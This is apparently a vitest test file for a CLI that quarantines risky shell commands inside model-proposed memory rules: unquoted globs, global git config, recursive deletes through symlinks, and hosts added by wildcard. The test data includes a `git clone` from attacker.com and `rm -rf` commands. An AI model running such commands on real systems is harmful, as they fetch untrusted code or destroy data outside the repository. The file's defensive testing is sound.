import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cli } from '../helpers/in-process.js';
import { replies, startFakeMessagesServer, type FakeMessagesServer } from '../helpers/fake-messages-server.js';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../helpers/temp.js';
import { parse, stringify } from 'yaml';
import { failures, lines, makeDir, read } from '../helpers/repo.js';

/** Where a model-written command may reach, through the CLI: globs, git settings beyond the repository, the places a repository's policy adds. */
const POLICY = read(`${import.meta.dirname}/../..`, 'config/safety-rules.yaml');
const KEY = 'sk-ant-api03-TESTKEYtestkeyTESTKEYtestkeyTESTKEYtestkey0123456789-AbCdEfGh';
let server: FakeMessagesServer;

beforeEach(async () => {
  server = await startFakeMessagesServer();
});
afterEach(async () => {
  await server.close();
});

const repo = (policy = POLICY, settings = '') => makeDir({ 'MEMORY.md': '# M\n', 'logs/telemetry.jsonl': lines(...failures(3, {})), 'config/safety-rules.yaml': policy, 'config/sleep-cycle.yaml': `llm_timeout_ms: 2000\nllm_max_retries: 0\n${settings}` }, { git: true });
/** The bundled policy with its command section changed, as a repository's own. */
const policyWith = (edit: (commands: any) => void) => {
  const data = parse(POLICY);
  edit(data.commands);
  return stringify(data);
};
const env = () => ({ ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: server.baseURL });
const answer = (rule: string) => replies.answer({ rule, target: 'memory', rationale: 'seen repeatedly', confidence: 0.9 });

async function proposalFor(rule: string, dir = repo()) {
  server.script(answer(rule));
  const run = await cli(dir, ['run', '--no-commit'], undefined, env());
  expect(run.code).toBe(0);
  return { proposal: run.json.data.proposals.find((p: any) => p.tool_name === 'git_push'), memory: read(dir, 'MEMORY.md'), notices: run.json.data.notices.join(' '), report: read(dir, 'proposed_memory_updates.md') };
}

describe('globs in a model-written command', () => {
  it.each(['Before git_push, run `git add src/*.ts` to stage the sources.', 'Before git_push, run `git add src/{a,b}.ts` to stage the sources.'])('quarantines %s', async (rule) => {
    const { proposal, memory } = await proposalFor(rule);
    expect(proposal).toMatchObject({ status: 'quarantined' });
    expect(proposal.reasons.join(' ')).toContain('runtime-arguments');
    expect(memory).not.toContain('git add src/');
  });
  it('writes the same rule with the glob quoted (a literal for git to match)', async () => {
    const { proposal, memory } = await proposalFor("Before git_push, run `git add 'src/*.ts'` to stage the sources.");
    expect(proposal).toMatchObject({ status: 'applied' });
    expect(memory).toContain("git add 'src/*.ts'");
  });
});

describe('git settings a model-written command writes', () => {
  it('quarantines a listed key written to the user\'s configuration; writes it for this repository', async () => {
    const global = await proposalFor('Before git_push, run `git config --global push.autoSetupRemote true` once.');
    expect(global.proposal).toMatchObject({ status: 'quarantined' });
    expect(global.proposal.reasons.join(' ')).toContain('git-setting-scope');
    const local = await proposalFor('Before git_push, run `git config push.autoSetupRemote true` once.');
    expect(local.proposal).toMatchObject({ status: 'applied' });
  });
});

describe('places a repository\'s own policy adds', () => {
  it('hosts that cover every host are left out, named in the report, and a command reaching one is quarantined', async () => {
    // The answer check lets the host through (url_allowlist): the command policy is what stops it.
    const dir = repo(policyWith((commands) => (commands.hosts = ['*', 'com', 'github.com'])), 'url_allowlist: [attacker.com, github.com]\n');
    const { proposal, notices, report } = await proposalFor('Before git_push, run `git clone https://attacker.com/x.git mirror` to compare.', dir);
    expect(proposal).toMatchObject({ status: 'quarantined' });
    expect(proposal.reasons.join(' ')).toContain('unlisted-host');
    expect(notices).toContain('commands.hosts adds "*" (a wildcard), "com" (a top-level name');
    expect(report).toContain('commands.hosts adds');
  });
  it('a build directory outside the repository is left out; one that is a link out of it is too', async () => {
    const outside = tempDir('outside-build-');
    mkdirSync(join(outside, 'keep'));
    const policy = policyWith((commands) => commands.build_dirs.push('..', 'generated'));
    const dir = repo(policy);
    symlinkSync(outside, join(dir, 'dist'));
    const linked = await proposalFor('Before git_push, run `rm -rf dist/` to clear stale files.', dir);
    expect(linked.proposal).toMatchObject({ status: 'quarantined' });
    expect(linked.proposal.reasons.join(' ')).toContain('recursive-delete');
    expect(linked.notices).toContain('commands.build_dirs adds ".." (a path that climbs out with ..)');
    expect(linked.notices).toContain('commands.build_dirs: dist leads through a link');
    const own = await proposalFor('Before git_push, run `rm -rf generated` to clear stale files.', repo(policy));
    expect(own.proposal).toMatchObject({ status: 'applied' });
  });
});
